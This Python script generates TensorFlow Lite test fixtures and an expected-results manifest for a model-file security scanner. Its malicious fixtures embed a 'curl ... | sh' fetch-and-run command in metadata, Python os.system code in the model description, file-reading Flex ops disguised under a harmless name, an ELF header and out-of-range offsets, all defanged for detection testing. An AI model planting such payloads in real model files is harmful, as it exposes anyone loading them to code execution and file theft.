#!/usr/bin/env python3
"""Generates the TensorFlow Lite fixtures under testdata/tflite/ and the
manifest testdata/expected-tflite.tsv.

Models are built with the `tflite` package (generated Python bindings of the
TFLite schema, builder functions included) on `flatbuffers`, both pinned in
requirements.txt; no TensorFlow. Every benign model is decoded again with the
`tflite` package (round trip asserted), and when `tflite-runtime` is
installed (optional, not pinned: it ships a native interpreter) the benign
models are also loaded and run by the real interpreter.

Payloads are harmless (`echo`). Run from the repository root:

    python3 testdata/gen/generate_tflite_fixtures.py
"""

import os
import struct
import sys
import zipfile
import io

import importlib

import flatbuffers
import numpy as np
from flatbuffers import flexbuffers

# The package re-exports each table's class under the module's name; the
# builder functions live in the modules themselves.
(
    Buffer,
    FullyConnectedOptions,
    Metadata,
    Model,
    Operator,
    OperatorCode,
    SignatureDef,
    SoftmaxOptions,
    SubGraph,
    Tensor,
    TensorMap,
) = (
    importlib.import_module(f"tflite.{m}")
    for m in (
        "Buffer",
        "FullyConnectedOptions",
        "Metadata",
        "Model",
        "Operator",
        "OperatorCode",
        "SignatureDef",
        "SoftmaxOptions",
        "SubGraph",
        "Tensor",
        "TensorMap",
    )
)
from tflite.BuiltinOperator import BuiltinOperator
from tflite.BuiltinOptions import BuiltinOptions
from tflite.TensorType import TensorType

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "tflite")
MANIFEST = os.path.join(ROOT, "expected-tflite.tsv")

# Fixed weights so the files are byte-stable.
WEIGHTS = np.arange(12, dtype=np.float32).reshape(3, 4) / 10.0 - 0.5
BIAS = np.array([0.1, -0.2, 0.3], dtype=np.float32)


def vector(b, start, items, add):
    start(b, len(items))
    for x in reversed(items):
        add(x)
    return b.EndVector()


def int_vector(b, start, items):
    return vector(b, start, items, b.PrependInt32)


def offsets(b, start, items):
    return vector(b, start, items, b.PrependUOffsetTRelative)


def op_code(b, builtin, custom=None, version=1):
    name = b.CreateString(custom) if custom is not None else None
    OperatorCode.Start(b)
    OperatorCode.AddDeprecatedBuiltinCode(b, min(builtin, 127))
    if name is not None:
        OperatorCode.AddCustomCode(b, name)
    OperatorCode.AddVersion(b, version)
    OperatorCode.AddBuiltinCode(b, builtin)
    return OperatorCode.End(b)


def tensor(b, name, shape, buffer, ttype=TensorType.FLOAT32):
    n = b.CreateString(name)
    s = int_vector(b, Tensor.StartShapeVector, shape)
    Tensor.Start(b)
    Tensor.AddShape(b, s)
    Tensor.AddType(b, ttype)
    Tensor.AddBuffer(b, buffer)
    Tensor.AddName(b, n)
    return Tensor.End(b)


def buffer(b, data=None, offset=None, size=None):
    d = b.CreateByteVector(data) if data else None
    Buffer.Start(b)
    if d is not None:
        Buffer.AddData(b, d)
    if offset is not None:
        Buffer.AddOffset(b, offset)
        Buffer.AddSize(b, size)
    return Buffer.End(b)


def operator(b, opcode, inputs, outputs, options=None, custom_options=None):
    i = int_vector(b, Operator.StartInputsVector, inputs)
    o = int_vector(b, Operator.StartOutputsVector, outputs)
    opts = options(b) if options else None
    co = b.CreateByteVector(custom_options) if custom_options is not None else None
    Operator.Start(b)
    Operator.AddOpcodeIndex(b, opcode)
    Operator.AddInputs(b, i)
    Operator.AddOutputs(b, o)
    if opts is not None:
        Operator.AddBuiltinOptionsType(b, opts[0])
        Operator.AddBuiltinOptions(b, opts[1])
    if co is not None:
        Operator.AddCustomOptions(b, co)
    return Operator.End(b)


def fc_options(b):
    FullyConnectedOptions.Start(b)
    return BuiltinOptions.FullyConnectedOptions, FullyConnectedOptions.End(b)


def softmax_options(b):
    SoftmaxOptions.Start(b)
    SoftmaxOptions.AddBeta(b, 1.0)
    return BuiltinOptions.SoftmaxOptions, SoftmaxOptions.End(b)


def signature(b, key, inp, out):
    def tmap(name, idx):
        n = b.CreateString(name)
        TensorMap.Start(b)
        TensorMap.AddName(b, n)
        TensorMap.AddTensorIndex(b, idx)
        return TensorMap.End(b)

    ins = offsets(b, SignatureDef.StartInputsVector, [tmap("input", inp)])
    outs = offsets(b, SignatureDef.StartOutputsVector, [tmap("output", out)])
    k = b.CreateString(key)
    SignatureDef.Start(b)
    SignatureDef.AddInputs(b, ins)
    SignatureDef.AddOutputs(b, outs)
    SignatureDef.AddSignatureKey(b, k)
    SignatureDef.AddSubgraphIndex(b, 0)
    return SignatureDef.End(b)


def flex_options(op, node_op=None, node_name="node"):
    """Custom options of a Flex operator as the converter writes them: a
    flexbuffer vector [op name, serialized tensorflow.NodeDef]. The NodeDef
    is written by hand: field 1 `name`, field 2 `op` (strings)."""
    node_op = node_op or op
    nodedef = b"\x0a" + bytes([len(node_name)]) + node_name.encode()
    nodedef += b"\x12" + bytes([len(node_op)]) + node_op.encode()
    fbb = flexbuffers.Builder()
    with fbb.Vector():
        fbb.String(op)
        fbb.String(nodedef.decode("ascii"))
    return bytes(fbb.Finish())


def min_runtime(version):
    return version.encode() + b"\0" * (16 - len(version))


def model(
    extra_codes=(),
    extra_ops=(),
    metadata=(),
    description="MLIR Converted.",
    external=None,
    op_inputs=None,
):
    """A dense [1,4] -> FULLY_CONNECTED -> [1,3] -> SOFTMAX -> [1,3] model as
    the MLIR converter lays it out (buffer 0 empty, one buffer per tensor).

    `extra_codes` are (builtin, custom) operator codes appended after the two
    builtins; `extra_ops` are (opcode_index, custom_options) operators applied
    to the softmax output in place of nothing (they read tensor 4 and write
    tensor 4: enough for a scanner, never meant to run). `metadata` is a list
    of (name, bytes). `external` maps buffer indices to (offset, size)
    instead of inline data. `op_inputs` replaces the FC inputs.
    """
    b = flatbuffers.Builder(1024)
    buffer_data = [b"", b"", WEIGHTS.tobytes(), BIAS.tobytes(), b"", b""]
    meta_buffers = []
    for _, data in metadata:
        meta_buffers.append(len(buffer_data))
        buffer_data.append(data)
    bufs = []
    for i, data in enumerate(buffer_data):
        if external and i in external:
            bufs.append(buffer(b, offset=external[i][0], size=external[i][1]))
        else:
            bufs.append(buffer(b, data))
    tensors = [
        tensor(b, "serving_default_input:0", [1, 4], 1),
        tensor(b, "sequential/dense/MatMul", [3, 4], 2),
        tensor(b, "sequential/dense/BiasAdd/ReadVariableOp", [3], 3),
        tensor(b, "sequential/dense/MatMul;sequential/dense/BiasAdd", [1, 3], 4),
        tensor(b, "StatefulPartitionedCall:0", [1, 3], 5),
    ]
    ops = [
        operator(b, 0, op_inputs or [0, 1, 2], [3], fc_options),
        operator(b, 1, [3], [4], softmax_options),
    ]
    for index, custom_options in extra_ops:
        ops.append(operator(b, index, [4], [4], custom_options=custom_options))
    t = offsets(b, SubGraph.StartTensorsVector, tensors)
    i = int_vector(b, SubGraph.StartInputsVector, [0])
    o = int_vector(b, SubGraph.StartOutputsVector, [4])
    p = offsets(b, SubGraph.StartOperatorsVector, ops)
    name = b.CreateString("main")
    SubGraph.Start(b)
    SubGraph.AddTensors(b, t)
    SubGraph.AddInputs(b, i)
    SubGraph.AddOutputs(b, o)
    SubGraph.AddOperators(b, p)
    SubGraph.AddName(b, name)
    sg = SubGraph.End(b)

    codes = [
        op_code(b, BuiltinOperator.FULLY_CONNECTED),
        op_code(b, BuiltinOperator.SOFTMAX),
    ] + [op_code(b, builtin, custom) for builtin, custom in extra_codes]
    metas = []
    for (mname, _), index in zip(metadata, meta_buffers):
        n = b.CreateString(mname)
        Metadata.Start(b)
        Metadata.AddName(b, n)
        Metadata.AddBuffer(b, index)
        metas.append(Metadata.End(b))

    codes_v = offsets(b, Model.StartOperatorCodesVector, codes)
    sgs_v = offsets(b, Model.StartSubgraphsVector, [sg])
    desc = b.CreateString(description)
    bufs_v = offsets(b, Model.StartBuffersVector, bufs)
    meta_v = offsets(b, Model.StartMetadataVector, metas) if metas else None
    sig_v = offsets(b, Model.StartSignatureDefsVector, [signature(b, "serving_default", 0, 4)])
    Model.Start(b)
    Model.AddVersion(b, 3)
    Model.AddOperatorCodes(b, codes_v)
    Model.AddSubgraphs(b, sgs_v)
    Model.AddDescription(b, desc)
    Model.AddBuffers(b, bufs_v)
    if meta_v is not None:
        Model.AddMetadata(b, meta_v)
    Model.AddSignatureDefs(b, sig_v)
    b.Finish(Model.End(b), file_identifier=b"TFL3")
    return bytes(b.Output()), buffer_data


def support_metadata():
    """A TFLite Support `ModelMetadata` flatbuffer (identifier M001), written
    from the field order of metadata_schema.fbs: name, description, version,
    subgraph_metadata (omitted), author, license, associated_files,
    min_parser_version."""
    b = flatbuffers.Builder(256)
    fname = b.CreateString("labels.txt")
    fdesc = b.CreateString("Labels for the three classes.")
    b.StartObject(5)  # AssociatedFile: name, description, type, locale, version
    b.PrependUOffsetTRelativeSlot(0, fname, 0)
    b.PrependUOffsetTRelativeSlot(1, fdesc, 0)
    b.PrependInt8Slot(2, 2, 0)  # TENSOR_AXIS_LABELS
    assoc = b.EndObject()
    b.StartVector(4, 1, 4)
    b.PrependUOffsetTRelative(assoc)
    assoc_v = b.EndVector()
    strings = [
        b.CreateString(s)
        for s in (
            "Tiny classifier",
            "Classifies a 4-feature input into one of three classes.",
            "v1",
            "SentraScan fixtures",
            "Apache License. Version 2.0 http://www.apache.org/licenses/LICENSE-2.0.",
            "1.0.0",
        )
    ]
    b.StartObject(8)
    for slot, s in zip((0, 1, 2, 4, 5, 7), strings):
        b.PrependUOffsetTRelativeSlot(slot, s, 0)
    b.PrependUOffsetTRelativeSlot(6, assoc_v, 0)
    b.Finish(b.EndObject(), file_identifier=b"M001")
    return bytes(b.Output())


def labels_zip():
    """The associated files, zipped after the model as MetadataPopulator does."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        info = zipfile.ZipInfo("labels.txt", date_time=(2024, 1, 1, 0, 0, 0))
        z.writestr(info, "cat\ndog\nbird\n")
    return out.getvalue()


def external_model():
    """Buffers 2 and 3 (weights, bias) after the flatbuffer, 16-aligned, as
    the converter writes models over 2 GB. Built twice: the offsets are
    fixed-size fields, so the first build gives the flatbuffer's length."""
    placeholder = {2: (1 << 40, 48), 3: (1 << 40, 12)}
    fb, _ = model(external=placeholder)
    start = (len(fb) + 15) // 16 * 16
    w = WEIGHTS.tobytes()
    bias_at = (start + len(w) + 15) // 16 * 16
    fb, _ = model(external={2: (start, len(w)), 3: (bias_at, len(BIAS.tobytes()))})
    assert (len(fb) + 15) // 16 * 16 == start
    data = bytearray(fb)
    data += b"\0" * (start - len(data)) + w
    data += b"\0" * (bias_at - len(data)) + BIAS.tobytes()
    return bytes(data)


def check_round_trip(data, n_meta=0, custom=()):
    """Decodes with the `tflite` package and checks what was built."""
    m = Model.Model.GetRootAs(data, 0)
    assert Model.Model.ModelBufferHasIdentifier(data, 0)
    assert m.Version() == 3
    assert m.SubgraphsLength() == 1
    sg = m.Subgraphs(0)
    assert sg.TensorsLength() == 5 and sg.Name() == b"main"
    assert sg.Tensors(1).Name() == b"sequential/dense/MatMul"
    codes = [m.OperatorCodes(i) for i in range(m.OperatorCodesLength())]
    assert [c.BuiltinCode() for c in codes[:2]] == [
        BuiltinOperator.FULLY_CONNECTED,
        BuiltinOperator.SOFTMAX,
    ]
    assert [c.CustomCode() for c in codes[2:]] == [c.encode() for c in custom]
    assert m.MetadataLength() == n_meta
    w = m.Buffers(2)
    if w.Offset() > 1:
        got = data[w.Offset() : w.Offset() + w.Size()]
    else:
        got = w.DataAsNumpy().tobytes()
    assert got == WEIGHTS.tobytes()
    assert m.SignatureDefs(0).SignatureKey() == b"serving_default"


def run_in_interpreter(name, data):
    """Loads and runs a benign model in the real TFLite interpreter when
    tflite-runtime is installed."""
    try:
        from tflite_runtime.interpreter import Interpreter
    except ImportError:
        return
    if int(np.__version__.split(".")[0]) >= 2:
        # tflite-runtime 2.14 (the last release) is built against NumPy 1.
        print(f"  {name}: tflite_runtime needs numpy<2, not run")
        return
    interp = Interpreter(model_content=data)
    interp.allocate_tensors()
    inp = interp.get_input_details()[0]["index"]
    interp.set_tensor(inp, np.array([[1.0, 2.0, 3.0, 4.0]], dtype=np.float32))
    interp.invoke()
    out = interp.get_tensor(interp.get_output_details()[0]["index"])
    logits = np.array([[1.0, 2.0, 3.0, 4.0]], dtype=np.float32) @ WEIGHTS.T + BIAS
    want = np.exp(logits) / np.exp(logits).sum()
    assert np.allclose(out, want, atol=1e-5), (name, out, want)
    print(f"  {name}: ran in tflite_runtime, output {out.round(4).tolist()}")


FIXTURES = []


def fixture(name, data, expected):
    FIXTURES.append((f"tflite/{name}", expected))
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        os.remove(os.path.join(OUT, f))

    # --- Benign -----------------------------------------------------------
    data, _ = model(metadata=[("min_runtime_version", min_runtime("1.5.0"))])
    check_round_trip(data, n_meta=1)
    run_in_interpreter("benign_fully_connected", data)
    fixture("benign_fully_connected.tflite", data, [])

    data, _ = model(
        metadata=[
            ("min_runtime_version", min_runtime("1.5.0")),
            ("TFLITE_METADATA", support_metadata()),
        ]
    )
    check_round_trip(data, n_meta=2)
    run_in_interpreter("benign_support_metadata", data)
    # The licence names apache.org: a link outside the Hub, reported LOW.
    fixture("benign_support_metadata.tflite", data, [("TFL010", "LOW")])
    # As MetadataPopulator writes it: the associated files the metadata
    # lists (labels.txt) zipped after the model. The interpreter ignores the
    # zip; the scanner analyses its members and does not call it a polyglot.
    run_in_interpreter("benign_support_metadata_labels_zip", data + labels_zip())
    fixture(
        "benign_support_metadata_labels_zip.tflite",
        data + labels_zip(),
        [("TFL010", "LOW")],
    )

    data = external_model()
    check_round_trip(data)
    run_in_interpreter("benign_external_buffers", data)
    fixture("benign_external_buffers.tflite", data, [])

    data, _ = model(
        extra_codes=[(BuiltinOperator.CUSTOM, "TFLite_Detection_PostProcess")],
        extra_ops=[(2, b"\x00")],
    )
    check_round_trip(data, custom=["TFLite_Detection_PostProcess"])
    fixture("benign_detection_postprocess_custom_op.tflite", data, [])

    # --- Malicious --------------------------------------------------------
    for op, sev in [
        ("FlexReadFile", "HIGH"),
        ("FlexWriteFile", "HIGH"),
        ("FlexEagerPyFunc", "CRITICAL"),
    ]:
        data, _ = model(
            extra_codes=[(BuiltinOperator.CUSTOM, op)],
            extra_ops=[(2, flex_options(op[4:]))],
        )
        check_round_trip(data, custom=[op])
        fixture(f"TFL003_{op.lower()}.tflite", data, [("TFL003", sev)])

    data, _ = model(
        extra_codes=[(BuiltinOperator.CUSTOM, "FlexErf")], extra_ops=[(2, flex_options("Erf"))]
    )
    fixture("TFL004_flex_ordinary_op.tflite", data, [("TFL004", "LOW")])

    # Coded as the harmless FlexAddV2, but the NodeDef the delegate runs is ReadFile.
    data, _ = model(
        extra_codes=[(BuiltinOperator.CUSTOM, "FlexAddV2")],
        extra_ops=[(2, flex_options("AddV2", node_op="ReadFile"))],
    )
    fixture(
        "TFL003_flex_nodedef_op_renamed.tflite",
        data,
        [("TFL003", "HIGH"), ("TFL004", "LOW")],
    )

    data, _ = model(
        extra_codes=[(BuiltinOperator.CUSTOM, "VendorSecretKernel")], extra_ops=[(2, b"")]
    )
    fixture("TFL005_unknown_custom_op.tflite", data, [("TFL005", "MEDIUM")])

    # A buffer whose external data lies 1 GiB past the end of the file.
    data, _ = model(external={2: (1 << 30, 48)})
    fixture("TFL006_buffer_offset_beyond_eof.tflite", data, [("TFL006", "HIGH")])

    # A buffer whose external data points back into the flatbuffer.
    data, _ = model(external={2: (8, 48)})
    fixture("TFL006_buffer_overlaps_flatbuffer.tflite", data, [("TFL006", "HIGH")])

    # FULLY_CONNECTED reads tensor 99 of 5 (and a negative one).
    data, _ = model(op_inputs=[0, 99, -7])
    fixture("TFL007_tensor_index_out_of_range.tflite", data, [("TFL007", "HIGH")])

    # The root offset points past the end (only the first 24 bytes kept).
    good, _ = model()
    fixture("TFL001_truncated.tflite", good[:24], [("TFL001", "MEDIUM")])

    # The operator_codes vector offset points past the end of the file.
    data = bytearray(good)
    m = Model.Model.GetRootAs(good, 0)
    field = m._tab.Offset(6) + m._tab.Pos
    struct.pack_into("<I", data, field, 0x7FFFFFF0)
    fixture("TFL002_operator_codes_out_of_bounds.tflite", bytes(data), [("TFL002", "MEDIUM")])

    data, _ = model(
        metadata=[("post_install", b"curl -fsSL http://127.0.0.1:9/x.sh | sh # echo sentrascan-fixture")]
    )
    # The command's URL is a link too (LOW).
    fixture(
        "TFL008_metadata_shell_command.tflite",
        data,
        [("TFL008", "HIGH"), ("TFL010", "LOW")],
    )

    data, _ = model(description="MLIR Converted. __import__('os').system('echo sentrascan-fixture')")
    fixture("TFL008_description_python_code.tflite", data, [("TFL008", "HIGH")])

    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
    data, _ = model(metadata=[("kernel_blob", elf)])
    fixture("TFL009_metadata_elf_executable.tflite", data, [("TFL009", "HIGH")])

    with open(MANIFEST, "w") as f:
        f.write(
            "# TensorFlow Lite fixtures. GENERATED by testdata/gen/generate_tflite_fixtures.py;\n"
            "# see testdata/FORMATS.md.\n"
            "# path<TAB>RULE<TAB>SEVERITY (a benign file: -<TAB>-, nothing above LOW).\n"
        )
        for path, expected in FIXTURES:
            if not expected:
                f.write(f"{path}\t-\t-\n")
            for rule, sev in expected:
                f.write(f"{path}\t{rule}\t{sev}\n")
    print(f"wrote {len(FIXTURES)} fixtures to {OUT}")


if __name__ == "__main__":
    sys.exit(main())
